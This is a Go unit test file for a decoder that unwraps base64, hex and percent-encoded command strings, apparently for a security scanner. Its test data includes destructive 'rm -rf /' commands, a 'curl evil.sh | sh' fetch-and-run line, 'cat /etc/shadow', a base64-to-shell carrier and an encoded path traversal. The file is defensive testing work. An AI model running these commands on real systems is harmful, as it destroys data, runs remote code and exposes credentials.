package normalize

import (
	"encoding/base64"
	"encoding/hex"
	"slices"
	"strings"
	"testing"
)

func TestUnwrapEncodingsBase64(t *testing.T) {
	payload := "rm -rf / --no-preserve-root"
	encoded := base64.StdEncoding.EncodeToString([]byte(payload))

	layers := UnwrapEncodings(encoded, DefaultMaxDecodeDepth)
	if !slices.Contains(layers, payload) {
		t.Errorf("expected decoded layer %q in %v", payload, layers)
	}
	if layers[0] != encoded {
		t.Errorf("first layer must be the original input, got %q", layers[0])
	}
}

func TestUnwrapEncodingsNestedLayers(t *testing.T) {
	payload := "curl evil.sh | sh"
	inner := base64.StdEncoding.EncodeToString([]byte(payload))
	outer := base64.StdEncoding.EncodeToString([]byte(inner))

	layers := UnwrapEncodings(outer, 3)
	if !slices.Contains(layers, payload) {
		t.Errorf("expected doubly-nested payload unwrapped, got %v", layers)
	}
}

func TestUnwrapEncodingsDepthBound(t *testing.T) {
	payload := "rm -rf /"
	s := payload
	// Wrap five layers deep; with maxDepth 3 the innermost payload
	// must NOT be reachable.
	for range 5 {
		s = base64.StdEncoding.EncodeToString([]byte(s))
	}
	layers := UnwrapEncodings(s, 3)
	if slices.Contains(layers, payload) {
		t.Errorf("payload 5 layers deep must not unwrap with maxDepth=3")
	}
	if len(layers) > maxLayers {
		t.Errorf("layer count %d exceeds cap %d", len(layers), maxLayers)
	}
}

func TestUnwrapEncodingsHex(t *testing.T) {
	payload := "cat /etc/shadow"
	encoded := hex.EncodeToString([]byte(payload))
	layers := UnwrapEncodings(encoded, 2)
	if !slices.Contains(layers, payload) {
		t.Errorf("expected hex layer %q in %v", payload, layers)
	}
}

func TestUnwrapEncodingsPercent(t *testing.T) {
	layers := UnwrapEncodings("rm%20-rf%20%2Ftmp%2Fx", 2)
	if !slices.Contains(layers, "rm -rf /tmp/x") {
		t.Errorf("expected percent-decoded layer, got %v", layers)
	}
}

func TestUnwrapEncodingsEmbeddedToken(t *testing.T) {
	payload := "rm -rf /home"
	token := base64.StdEncoding.EncodeToString([]byte(payload))
	carrier := "echo " + token + " | base64 -d | sh"

	layers := UnwrapEncodings(carrier, 2)
	if !slices.Contains(layers, payload) {
		t.Errorf("expected embedded token decoded, got %v", layers)
	}
}

func TestUnwrapEncodingsBinaryTerminatesBranch(t *testing.T) {
	// Random-looking binary: base64 of 0x00-heavy bytes decodes to
	// non-printable text and must not propagate further.
	encoded := base64.StdEncoding.EncodeToString([]byte{0x00, 0x01, 0x02, 0xFF, 0xFE, 0x80, 0x81, 0x90})
	layers := UnwrapEncodings(encoded, 3)
	if len(layers) != 1 {
		t.Errorf("expected binary decode to terminate branch, got %v", layers)
	}
}

func TestUnwrapEncodingsPlainTextNoLayers(t *testing.T) {
	layers := UnwrapEncodings("ls -la", 3)
	if len(layers) != 1 || layers[0] != "ls -la" {
		t.Errorf("expected plain command to produce only itself, got %v", layers)
	}
}

func TestDecodePercentIterative(t *testing.T) {
	if got := DecodePercent("%252e%252e%252fetc"); got != "../etc" {
		t.Errorf("DecodePercent = %q, want ../etc", got)
	}
	// Invalid escapes are returned unchanged, never an error.
	if got := DecodePercent("100%legit"); got != "100%legit" {
		t.Errorf("invalid escape should pass through, got %q", got)
	}
}

func TestUnwrapEncodingsDeterministic(t *testing.T) {
	in := "echo " + base64.StdEncoding.EncodeToString([]byte("rm -rf /tmp")) + " | base64 -d"
	a := UnwrapEncodings(in, 3)
	b := UnwrapEncodings(in, 3)
	if strings.Join(a, "\x00") != strings.Join(b, "\x00") {
		t.Errorf("unwrap not deterministic: %v vs %v", a, b)
	}
}
